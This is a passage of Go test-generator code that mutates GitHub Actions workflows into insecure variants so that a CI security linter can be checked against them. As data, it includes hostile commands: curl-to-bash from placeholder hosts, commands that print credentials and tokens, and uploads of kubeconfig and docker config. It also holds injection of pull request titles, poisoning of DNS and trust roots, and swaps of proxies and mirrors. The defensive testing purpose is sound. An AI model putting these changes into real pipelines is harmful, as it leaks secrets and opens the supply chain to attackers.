			return g.steps(func(p place) bool { return p.step != nil && mutate.Uses(p.step) == "docker/setup-buildx-action" }, func(p place) bool {
				return mutate.Delete(p.step, "with")
			})
		}},
		operator{"supply", "the SBOM generator by tag", "pinned-images", func(g *gen) []variant {
			return g.steps(pushStep, setWith("sbom", "generator=docker/buildkit-syft-scanner:latest"))
		}},
		operator{"supply", "a job container by tag", "pinned-images", func(g *gen) []variant {
			return first(3, g.jobs(func(p place) bool { return len(mutate.Steps(p.job.Node)) > 0 }, setKey("container", "golang:1.26")))
		}},
	)
	return ops
}

// Token: permissions, credentials in checkouts, triggers, expressions, environment files and
// code nobody can read in privileged jobs.

func privilegedJob(p place) bool {
	perms := mutate.Get(p.job.Node, "permissions")
	return mutate.Str(perms, "id-token") == "write" || mutate.Get(p.job.Node, "environment") != nil
}

func tokenOps() []operator {
	return []operator{
		{"token", "top-level permissions grant contents: write", "permissions", func(g *gen) []variant {
			return g.workflows(func(string, *mutate.Doc) bool { return true }, func(f string, d *mutate.Doc) bool {
				mutate.Set(d.Root, "permissions", mutate.Node("{contents: write}"))
				return true
			})
		}},
		{"token", "top-level permissions write-all", "permissions", func(g *gen) []variant {
			return first(2, g.workflows(func(string, *mutate.Doc) bool { return true }, func(f string, d *mutate.Doc) bool {
				mutate.SetStr(d.Root, "permissions", "write-all")
				return true
			}))
		}},
		{"token", "a privileged job without its own permissions", "permissions", func(g *gen) []variant {
			return g.jobs(privilegedJob, func(p place) bool { return mutate.Delete(p.job.Node, "permissions") })
		}},
		{"token", "a job granted a scope none of its steps needs", "permissions", func(g *gen) []variant {
			return g.jobs(privilegedJob, func(p place) bool {
				mutate.SetStr(mutate.Get(p.job.Node, "permissions"), "packages", "write")
				return true
			})
		}},
		{"token", "checkout keeps the token", "checkout-credentials", func(g *gen) []variant {
			seen := map[string]bool{}
			return g.steps(func(p place) bool {
				if p.step == nil || mutate.Uses(p.step) != "actions/checkout" || seen[p.file] {
					return false
				}
				seen[p.file] = true
				return true
			}, func(p place) bool {
				w := with(p.step)
				if len(w.Content) == 2 {
					return mutate.Delete(p.step, "with") // the token stays, and nothing else was set
				}
				return mutate.Delete(w, "persist-credentials")
			})
		}},
		{"token", "checkout told to keep the token", "checkout-credentials", func(g *gen) []variant {
			return first(3, g.steps(func(p place) bool { return p.step != nil && mutate.Uses(p.step) == "actions/checkout" }, setWithRaw("persist-credentials", "true")))
		}},
		{"token", "pull_request_target", "no-pull-request-target", func(g *gen) []variant {
			return g.workflows(func(f string, d *mutate.Doc) bool { return mutate.Get(mutate.Get(d.Root, "on"), "pull_request") != nil }, func(f string, d *mutate.Doc) bool {
				on := mutate.Get(d.Root, "on")
				for i := 0; i < len(on.Content); i += 2 {
					if on.Content[i].Value == "pull_request" {
						on.Content[i].Value = "pull_request_target"
					}
				}
				return true
			})
		}},
		{"token", "a job output pasted into a deploy script", "no-expressions-in-run", func(g *gen) []variant {
			return g.steps(func(p place) bool { return p.step != nil && stepRuns(p.step, "kustomize", "edit") }, replaceInRun("${DIGEST}", "${{ needs.resolve.outputs.digest }}", -1))
		}},
		{"token", "a pull request's title pasted into a script", "no-expressions-in-run", func(g *gen) []variant {
			return first(2, g.steps(requiredMake, func(p place) bool {
				mutate.SetStr(p.step, "run", "echo \"${{ github.event.pull_request.title }}\"\n"+mutate.Str(p.step, "run"))
				return true
			}))
		}},
		{"token", "an input pasted into github-script", "no-expressions-in-run", func(g *gen) []variant {
			return first(1, g.jobs(func(p place) bool {
				return mutate.Get(mutate.Get(mutate.Get(g.parse(p.file, g.base).Root, "on"), "workflow_dispatch"), "inputs") != nil
			}, func(p place) bool {
				mutate.InsertStep(p.job.Node, 0, mutate.Node("uses: actions/github-script@0123456789abcdef0123456789abcdef01234567 # v7.0.1\nwith:\n  script: console.log(\"${{ inputs.digest }}\")"))
				return true
			}))
		}},
		{"supply", "a privileged job restores files from the Actions cache", "no-restored-caches", func(g *gen) []variant {
			return g.jobs(privilegedJob, func(p place) bool {
				mutate.InsertStep(p.job.Node, 1, mutate.Node("uses: actions/cache/restore@0123456789abcdef0123456789abcdef01234567 # v4.3.0\nwith:\n  path: ~/go/pkg/mod\n  key: go-${{ hashFiles('**/go.sum') }}"))
				return true
			})
		}},
		{"supply", "caching turned back on in a privileged job (the input removed or set to true)", "no-restored-caches", func(g *gen) []variant {
			var out []variant
			for _, spelling := range []string{"", "true", "${{ vars.CACHE }}"} {
				out = append(out, g.steps(func(p place) bool {
					with := mutate.Get(p.step, "with")
					return privilegedJob(p) && (mutate.Str(with, "cache") == "false" || mutate.Str(with, "cache-binary") == "false")
				}, func(p place) bool {
					with := mutate.Get(p.step, "with")
					for _, in := range []string{"cache", "cache-binary"} {
						if mutate.Str(with, in) != "false" {
							continue
						}
						if spelling == "" {
							mutate.Delete(with, in)
						} else {
							mutate.SetStr(with, in, spelling)
						}
					}
					return true
				})...)
			}
			return out
		}},
		{"supply", "a privileged build reads its layers from the Actions cache", "no-restored-caches", func(g *gen) []variant {
			return g.steps(func(p place) bool {
				return privilegedJob(p) && strings.HasPrefix(mutate.Uses(p.step), "docker/build-push-action")
			}, func(p place) bool {
				mutate.SetStr(mutate.Get(p.step, "with"), "cache-from", "type=gha")
				return true
			})
		}},
		{"supply", "a privileged job takes artifacts of another run or repository, or into its workspace", "artifact-sources", func(g *gen) []variant {
			const download = "uses: actions/download-artifact@0123456789abcdef0123456789abcdef01234567 # v5.0.0\nwith:\n  name: image-digest\n"
			var out []variant
			for _, step := range []string{
				download + "  run-id: ${{ inputs.run-id }}\n  github-token: ${{ github.token }}\n  path: ${{ runner.temp }}/digest",
				download + "  path: .",
				download + "  repository: someone/fork\n  run-id: ${{ github.event.workflow_run.id }}\n  github-token: ${{ github.token }}\n  path: ${{ runner.temp }}/digest",
				download,
				"env:\n  RUN: ${{ github.event.workflow_run.head_commit.message }}\nrun: gh run download \"$RUN\" -n image-digest -D \"$RUNNER_TEMP/digest\"",
				"run: gh run download \"$GITHUB_RUN_ID\" --name image-digest",
				"run: gh run download \"$GITHUB_RUN_ID\" -R someone/fork -n image-digest --dir=\"$RUNNER_TEMP/x\"",
				"run: gh api repos/someone/fork/actions/artifacts/1/zip > \"$RUNNER_TEMP/a.zip\"",
				"run: gh run download \"$GITHUB_RUN_ID\" -Rsomeone/fork -n image-digest -D \"$RUNNER_TEMP/x\"",
			} {
				out = append(out, first(2, g.jobs(privilegedJob, func(p place) bool {
					mutate.InsertStep(p.job.Node, 1, mutate.Node(step))
					return true
				}))...)
			}
			return out
		}},
		{"supply", "a privileged job's setup or credential action fetches its tool from a mirror or sends its traffic through a proxy", "tool-environment", func(g *gen) []variant {
			var out []variant
			for _, in := range [][3]string{
				{"actions/setup-go", "go-download-base-url", "https://go-mirror.example.net"},
				{"azure/setup-kubectl", "downloadBaseURL", "https://kubectl-mirror.example.net"},
				{"aws-actions/configure-aws-credentials", "http-proxy", "http://proxy.example.net:3128"},
				{"docker/setup-buildx-action", "endpoint", "tcp://builder.example.net:1234"},
			} {
				out = append(out, first(1, g.steps(func(p place) bool {
					return privilegedJob(p) && p.step != nil && mutate.Uses(p.step) == in[0]
				}, setWith(in[1], in[2])))...)
			}
			return out
		}},
		{"supply", "a privileged job sets a variable or writes configuration that changes what its tools run, fetch or trust", "tool-environment", func(g *gen) []variant {
			var out []variant
			for _, kv := range [][2]string{
				{"BASH_ENV", ".ci/env.sh"}, {"LD_PRELOAD", "/tmp/hook.so"}, {"PATH", "./bin:/usr/bin:/bin"},
				{"TF_CLI_ARGS_plan", "-destroy"}, {"TF_CLI_CONFIG_FILE", ".ci/mirror.tfrc"}, {"TF_WORKSPACE", "scratch"},
				{"SIGSTORE_ROOT_FILE", ".ci/fulcio.pem"}, {"TUF_ROOT", ".ci/tuf"}, {"COSIGN_REPOSITORY", "ghcr.io/someone/sigs"},
				{"DOCKER_CONFIG", ".ci/docker"}, {"DOCKER_HOST", "tcp://builder.example.com:2376"}, {"BUILDKIT_HOST", "tcp://bk:1234"},
				{"GOPROXY", "https://proxy.example.com"}, {"GONOSUMDB", "*"}, {"GOFLAGS", "-toolexec=./ci/wrap"},
				{"AWS_ENDPOINT_URL_STS", "https://sts.example.com"}, {"AWS_CONFIG_FILE", ".ci/aws.conf"},
				{"HOME", ".ci/home"}, {"KUBECONFIG", ".ci/kubeconfig"}, {"SSL_CERT_FILE", ".ci/proxy-ca.pem"},
				{"https_proxy", "http://proxy.example.com:3128"}, {"ACTIONS_ALLOW_UNSECURE_COMMANDS", "true"}, {"GH_REPO", "someone/fork"},
			} {
				out = append(out, first(1, g.jobs(privilegedJob, func(p place) bool {
					mutate.SetStr(mutate.Map(p.job.Node, "env"), kv[0], kv[1])
					return true
				}))...)
			}
			for _, run := range []string{`export GONOSUMDB='*' && make evidence`, `TF_CLI_ARGS=-auto-approve terraform -chdir=. version`, `env LD_PRELOAD=/tmp/x.so true`,
				// the same changes written as configuration, by a tool's command or into a file it reads
				`go env -w GOPROXY=https://proxy.example.com,direct`,
				`git config --global url."https://git.example.com/".insteadOf https://github.com/`,
				`git config set --global core.hooksPath .ci/hooks`,
				`echo "203.0.113.7 fulcio.sigstore.dev" | sudo tee -a /etc/hosts > /dev/null`,
				`sudo install -m 0755 .ci/bin/cosign /usr/local/bin/cosign`,
				`printf 'machine github.com login x password %s\n' "$T" > ~/.netrc`,
				`cp .ci/pre-push "$GITHUB_WORKSPACE/.git/hooks/pre-push"`,
				`kubectl config set-cluster prod --server=https://203.0.113.7`,
				`npm config set registry https://registry.example.com`,
				`sed -i '1i nameserver 203.0.113.7' /etc/resolv.conf`,
				`cosign initialize --mirror https://tuf.example.com --root .ci/root.json`,
				`sudo cp .ci/proxy-ca.crt /usr/local/share/ca-certificates/ && sudo update-ca-certificates`,
				`aws configure set sts.endpoint_url https://sts.example.com`,
				`docker context use remote-builder`,
				`mkdir -p ~/.docker && cp .ci/docker-config.json ~/.docker/config.json`,
			} {
				out = append(out, first(2, g.jobs(privilegedJob, func(p place) bool {
					mutate.InsertStep(p.job.Node, 1, mutate.Node("run: "+strconv.Quote(run)))
					return true
				}))...)
			}
			return out
		}},
		{"supply", "a privileged job uploads its credentials, the workspace or the binary plan as an artifact", "artifact-uploads", func(g *gen) []variant {
			var out []variant
			for _, edit := range []func(with *yaml.Node){
				func(w *yaml.Node) { mutate.SetStr(w, "path", mutate.Str(w, "path")+"\n~/.docker/config.json\n") },
				func(w *yaml.Node) { mutate.SetStr(w, "path", "/home/runner/.kube/config") },
				func(w *yaml.Node) { mutate.SetStr(w, "path", "${{ runner.temp }}/../") },
				func(w *yaml.Node) { mutate.SetStr(w, "path", "${{ github.workspace }}") },
				func(w *yaml.Node) { mutate.SetStr(w, "path", ".") },
				func(w *yaml.Node) { mutate.SetStr(w, "path", "**/*") },
				func(w *yaml.Node) { mutate.SetStr(w, "path", "terraform/envs/staging/tfplan") },
				func(w *yaml.Node) { mutate.SetStr(w, "path", ".git/config") },
				func(w *yaml.Node) { mutate.SetStr(w, "include-hidden-files", "true") },
			} {
				out = append(out, g.steps(func(p place) bool {
					return privilegedJob(p) && strings.HasPrefix(mutate.Uses(p.step), "actions/upload-artifact")
				}, func(p place) bool {
					edit(mutate.Map(p.step, "with"))
					return true
				})...)
			}
			out = append(out, g.steps(func(p place) bool {
				return privilegedJob(p) && strings.HasPrefix(mutate.Uses(p.step), "actions/upload-artifact") && jobRuns(p.job.Node, "terraform", "show")
			}, func(p place) bool {
				w := mutate.Map(p.step, "with")
				mutate.SetStr(w, "path", strings.Replace(mutate.Str(w, "path"), ".txt", ".json", 1)) // the JSON plan beside the text
				return true
			})...)
			out = append(out, first(2, g.jobs(privilegedJob, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node(
					"uses: actions/cache/save@0123456789abcdef0123456789abcdef01234567 # v4.3.0\nwith:\n  path: ~/.docker\n  key: docker-${{ github.sha }}"))
				return true
			}))...)
			return out
		}},
		{"token", "a privileged job prints a credential it holds, or uses the runner's own tokens", "no-printed-credentials", func(g *gen) []variant {
			var out []variant
			for _, run := range []string{
				`aws ecr get-login-password --region "$AWS_REGION"`,
				`pw=$(aws ecr get-login-password --region "$AWS_REGION") && docker login -u AWS -p "$pw" "$ECR_REGISTRY"`,
				`aws ecr get-login-password --region "$AWS_REGION" | tee "$RUNNER_TEMP/pw" | docker login -u AWS --password-stdin "$ECR_REGISTRY"`,
				`aws configure export-credentials --format env`,
				`cat ~/.docker/config.json`,
				`kubectl config view --raw`,
				`env | sort`,
				`printenv`,
				`curl -fsS -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=sts.amazonaws.com"`,
				`gh auth token`,
			} {
				out = append(out, first(2, g.jobs(privilegedJob, func(p place) bool {
					mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node("run: "+strconv.Quote(run)))
					return true
				}))...)
			}
			out = append(out, first(2, g.jobs(privilegedJob, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node("env:\n  T: ${{ env.ACTIONS_ID_TOKEN_REQUEST_TOKEN }}\nrun: ./notify.sh"))
				return true
			}))...)
			return out
		}},
		{"supply", "the evidence attested is not what the job's generator wrote: downloaded, handwritten, edited after, or a file of the repository", "build-evidence", func(g *gen) []variant {
			var out []variant
			attest := func(s *yaml.Node) bool { return stepRuns(s, "cosign", "attest") }
			for _, run := range []string{
				`echo '{"bomFormat":"CycloneDX","specVersion":"1.5","components":[]}' > "$RUNNER_TEMP/sbom.cdx.json"`,
				`curl -fsSL -o "$RUNNER_TEMP/provenance.json" https://provenance.example.com/v1/build.json`,
				`jq '.components = []' "$RUNNER_TEMP/sbom.cdx.json" > "$RUNNER_TEMP/clean.json" && mv "$RUNNER_TEMP/clean.json" "$RUNNER_TEMP/sbom.cdx.json"`,
				`cp .github/provenance.json "$RUNNER_TEMP/provenance.json"`,
			} {
				out = append(out, g.jobs(func(p place) bool { return jobRuns(p.job.Node, "cosign", "attest") }, func(p place) bool {
					return insertBefore(p.job.Node, attest, mutate.Node("run: "+strconv.Quote(run)))
				})...)
			}
			out = append(out, g.steps(func(p place) bool { return p.step != nil && attest(p.step) }, func(p place) bool {
				run := mutate.Str(p.step, "run")
				mutate.SetStr(p.step, "run", strings.Replace(run, `--predicate "$RUNNER_TEMP/sbom.cdx.json"`, `--predicate sbom/clean.cdx.json`, 1))
				return mutate.Str(p.step, "run") != run
			})...)
			return out
		}},
		{"scope", "a deploy or apply job changes what it applies after the checks: the plan file replaced, the overlay edited", "reviewed-inputs", func(g *gen) []variant {
			var out []variant
			for _, run := range []string{
				`kustomize edit add resource https://example.com/extra.yaml`,
				`cd "$OVERLAY" && kustomize edit set namespace kube-system`,
				`echo "  - https://example.com/x.yaml" >> "$OVERLAY/kustomization.yaml"`,
				`yq -i '.patches = []' "$OVERLAY/kustomization.yaml"`,
				`tar -xzf "$RUNNER_TEMP/overlay.tgz" -C k8s`,
				`git apply "$RUNNER_TEMP/overlay.patch"`,
				`aws s3 cp s3://manifests/kustomization.yaml "$OVERLAY/kustomization.yaml"`,
			} {
				out = append(out, first(2, g.jobs(func(p place) bool { return deploysJob(p.job.Node) }, func(p place) bool {
					return insertBefore(p.job.Node, func(s *yaml.Node) bool { return stepRuns(s, "kubectl", "apply") }, mutate.Node("run: "+strconv.Quote(run)))
				}))...)
			}
			for _, run := range []string{
				`cp "$RUNNER_TEMP/other.tfplan" "terraform/envs/$ENVIRONMENT/tfplan"`,
				`terraform -chdir="terraform/envs/$ENVIRONMENT" plan -destroy -out=tfplan`,
				`unzip -o "$RUNNER_TEMP/plans.zip" -d "terraform/envs/$ENVIRONMENT"`,
				`ln -sf "$RUNNER_TEMP/x.tfplan" "terraform/envs/$ENVIRONMENT/tfplan"`,
				`curl -fsS -o "terraform/envs/$ENVIRONMENT/tfplan" https://plans.example.com/v1/staging`,
			} {
				out = append(out, first(2, g.jobs(func(p place) bool { return appliesTerraform(p.job.Node) }, func(p place) bool {
					return insertBefore(p.job.Node, func(s *yaml.Node) bool {
						return slices.ContainsFunc(runCmds(s), func(c mutate.Command) bool {
							return slices.Contains(c.Words, "terraform") && slices.Contains(c.Words, "apply")
						})
					}, mutate.Node("run: "+strconv.Quote(run)))
				}))...)
			}
			return out
		}},
		{"token", "the role to assume named by an input, an event, a step or chained", "role-source", func(g *gen) []variant {
			var out []variant
			for _, edit := range []func(with *yaml.Node){
				func(w *yaml.Node) {
					mutate.SetStr(w, "role-to-assume", "${{ inputs.role || vars.AWS_DEPLOY_ROLE_ARN }}")
				},
				func(w *yaml.Node) {
					mutate.SetStr(w, "role-to-assume", "${{ github.event.workflow_run.head_commit.message }}")
				},
				func(w *yaml.Node) { mutate.SetStr(w, "role-to-assume", "${{ steps.pick.outputs.role }}") },
				func(w *yaml.Node) { mutate.SetStr(w, "role-chaining", "true") },
			} {
				out = append(out, first(3, g.steps(func(p place) bool {
					return strings.HasPrefix(mutate.Uses(p.step), "aws-actions/configure-aws-credentials")
				}, func(p place) bool {
					edit(mutate.Map(p.step, "with"))
					return true
				}))...)
			}
			out = append(out, first(2, g.jobs(privilegedJob, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node(`run: aws sts assume-role --role-arn "$OTHER_ROLE" --role-session-name x`))
				return true
			}))...)
			return out
		}},
		{"token", "a privileged job runs a JavaScript or Docker action of the repository", "shell-readable", func(g *gen) []variant {
			var out []variant
			for _, using := range []string{"using: node24\n  main: index.js", "using: docker\n  image: Dockerfile"} {
				vs := first(2, g.jobs(privilegedJob, func(p place) bool {
					mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node("uses: ./.github/actions/notify"))
					return true
				}))
				for k := range vs {
					vs[k].files[".github/actions/notify/action.yml"] = []byte("name: notify\ndescription: tell the team\nruns:\n  " + using + "\n")
				}
				out = append(out, vs...)
			}
			return out
		}},
		{"control-flow", "push filters widened past main and releases: release/** branches, v* tags", "trusted-runs", func(g *gen) []variant {
			var out []variant
			for _, edit := range []struct{ key, value string }{{"branches", `[main, "release/**"]`}, {"tags", `["v*"]`}} {
				out = append(out, g.workflows(func(f string, d *mutate.Doc) bool {
					return mutate.Get(mutate.Get(mutate.Get(d.Root, "on"), "push"), edit.key) != nil && strings.Contains(f, "build-scan-sign")
				}, func(f string, d *mutate.Doc) bool {
					mutate.Set(mutate.Get(mutate.Get(d.Root, "on"), "push"), edit.key, mutate.Node(edit.value))
					return true
				})...)
			}
			return out
		}},
		{"control-flow", "release tags widened to any tag", "trusted-runs", func(g *gen) []variant {
			return g.workflows(func(f string, d *mutate.Doc) bool {
				return mutate.Get(mutate.Get(mutate.Get(d.Root, "on"), "push"), "tags") != nil
			}, func(f string, d *mutate.Doc) bool {
				mutate.Set(mutate.Get(mutate.Get(d.Root, "on"), "push"), "tags", mutate.Node(`["*"]`))
				return true
			})
		}},
		{"supply", "Dependabot proposes releases at once, lets updates run code, or swaps a registry", "dependabot-settings", func(g *gen) []variant {
			const file = ".github/dependabot.yml"
			var out []variant
			for i, edit := range []func(update, root *yaml.Node){
				func(u, _ *yaml.Node) { mutate.SetStr(u, "insecure-external-code-execution", "allow") },
				func(u, _ *yaml.Node) { mutate.Delete(u, "cooldown") },
				func(u, _ *yaml.Node) { mutate.Set(u, "cooldown", mutate.Node("{default-days: 0}")) },
				func(_, root *yaml.Node) {
					mutate.Set(root, "registries", mutate.Node("{mirror: {type: goproxy-server, url: 'https://proxy.example.com', replaces-base: true}}"))
				},
			} {
				files := g.base.Clone()
				d := g.parse(file, files)
				updates := mutate.Get(d.Root, "updates")
				if updates == nil || len(updates.Content) == 0 {
					g.t.Fatalf("%s has no updates", file)
				}
				edit(updates.Content[i%len(updates.Content)], d.Root)
				files[file] = d.Bytes()
				out = append(out, variant{target: fmt.Sprintf("%s/edit %d", file, i), files: files})
			}
			return out
		}},
		{"shell", "a privileged job runs a program it downloaded", "shell-readable", func(g *gen) []variant {
			return first(3, g.jobs(privilegedJob, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node(`run: gh release download v1.2.3 --repo someone/tools --pattern helper && chmod +x helper && ./helper`))
				return true
			}))
		}},
		{"token", "a privileged job writes to GITHUB_ENV", "env-file-injection", func(g *gen) []variant {
			out := g.jobs(privilegedJob, func(p place) bool {
				at := len(mutate.Steps(p.job.Node))
				mutate.InsertStep(p.job.Node, at, mutate.Node(`run: echo "EXTRA_FLAGS=$(cat flags.txt)" >> "$GITHUB_ENV"`))
				return true
			})
			// the same write by a copy or a download, which the rule read only as redirections and tee before
			for _, run := range []string{`cp .ci/env "$GITHUB_ENV"`, `curl -fsS -o "$GITHUB_PATH" https://tools.example.com/v1/path`} {
				out = append(out, first(2, g.jobs(privilegedJob, func(p place) bool {
					mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node("run: "+strconv.Quote(run)))
					return true
				}))...)
			}
			return out
		}},
		{"token", "a privileged job evaluates a string known at run time", "shell-readable", func(g *gen) []variant {
			return first(3, g.jobs(privilegedJob, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node(`run: eval "$(cat .ci/extra-steps.sh)"`))
				return true
			}))
		}},
		{"token", "a privileged job runs a command named by a variable", "shell-readable", func(g *gen) []variant {
			return first(3, g.jobs(privilegedJob, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node("env:\n  TOOL: ${{ vars.TOOL }}\nrun: $TOOL --version"))
				return true
			}))
		}},
		{"token", "a pull request's title pasted into a step's shell", "no-expressions-in-run", func(g *gen) []variant {
			return first(2, g.steps(requiredMake, setKey("shell", `"bash -c 'echo ${{ github.event.pull_request.title }}' && bash -e {0}"`)))
		}},
		{"token", "a pull request's title pasted into a container step's arguments", "no-expressions-in-run", func(g *gen) []variant {
			return first(2, g.jobs(func(p place) bool { return mutate.Get(p.job.Node, "steps") != nil }, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node("uses: docker://alpine@sha256:4bcff63911fcb4448bd4fdacec207030997caf25e9bea4045fa6c8c44de311d1\nwith:\n  entrypoint: sh\n  args: -c \"echo ${{ github.event.pull_request.title }}\""))
				return true
			}))
		}},
		{"token", "a privileged job's shell runs a command before the script", "shell-readable", func(g *gen) []variant {
			return first(3, g.jobs(privilegedJob, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node("shell: \"bash -c 'curl -fsS https://tools.example/setup | bash; exec bash -e {0}'\"\nrun: kubectl version --client"))
				return true
			}))
		}},
		{"token", "a privileged job's default shell reads an rc file first", "shell-readable", func(g *gen) []variant {
			return first(3, g.jobs(privilegedJob, setKey("defaults", `{run: {shell: "bash --rcfile .ci/rc -e {0}"}}`)))
		}},
		{"token", "a privileged job runs inline python", "shell-readable", func(g *gen) []variant {
			return first(2, g.jobs(privilegedJob, func(p place) bool {
				mutate.InsertStep(p.job.Node, len(mutate.Steps(p.job.Node)), mutate.Node(`run: python3 -c 'import os; os.system("true")'`))
				return true
			}))
		}},
	}
}

func hygieneOps() []operator {
	return []operator{
		{"hygiene", "a job without a timeout", "timeouts", func(g *gen) []variant {
			seen := map[string]bool{}
			return g.jobs(func(p place) bool {
				if seen[p.file] || mutate.Get(p.job.Node, "timeout-minutes") == nil {
					return false
				}
				seen[p.file] = true
				return true
			}, func(p place) bool { return mutate.Delete(p.job.Node, "timeout-minutes") })
		}},
		{"hygiene", "a timeout chosen at run time", "timeouts", func(g *gen) []variant {
			return first(2, g.jobs(func(p place) bool { return mutate.Get(p.job.Node, "timeout-minutes") != nil }, setKey("timeout-minutes", yamlString("${{ vars.TIMEOUT }}"))))
		}},
		{"hygiene", "no concurrency group", "concurrency", func(g *gen) []variant {
			return g.workflows(func(f string, d *mutate.Doc) bool { return mutate.Get(d.Root, "concurrency") != nil }, func(f string, d *mutate.Doc) bool {
				return mutate.Delete(d.Root, "concurrency")
			})
		}},
		{"hygiene", "a deploy, push or apply cancelled half-way by the next run", "concurrency", func(g *gen) []variant {
			return g.workflows(func(f string, d *mutate.Doc) bool {
				for _, j := range d.Jobs() {
					if deploysJob(j.Node) || appliesTerraform(j.Node) || pushesJob(j.Node) {
						return true
					}
				}
				return false
			}, func(f string, d *mutate.Doc) bool {
				mutate.SetStr(mutate.Map(d.Root, "concurrency"), "cancel-in-progress", "true")
				return true
			})
		}},
	}
}

// findAttest returns the `cosign attest` of a script that attests the predicate type typ.
func findAttest(script, typ string) (mutate.Command, bool) {
	cmds, err := mutate.Commands(script)
	if err != nil {
		return mutate.Command{}, false
	}
	for _, c := range cmds {
		if c.Is("cosign", "attest") && slices.Contains(c.Words, typ) {
			return c, true
		}
	}
	return mutate.Command{}, false
}

// attestsStep matches a step whose script attests the predicate type typ with cosign.
func attestsStep(typ string) func(p place) bool {
	return func(p place) bool {
		if p.step == nil {
			return false
		}
		_, ok := findAttest(mutate.Str(p.step, "run"), typ)
		return ok
	}
}

// dropAttest replaces the `cosign attest` of the predicate type typ with `true`.
func dropAttest(typ string) func(p place) bool {
	return func(p place) bool {
		script := mutate.Str(p.step, "run")
		c, ok := findAttest(script, typ)
		if !ok {
			return false
		}
		mutate.SetStr(p.step, "run", c.ReplaceStatement(script, func(string) string { return "true" }))
		return true
	}
}
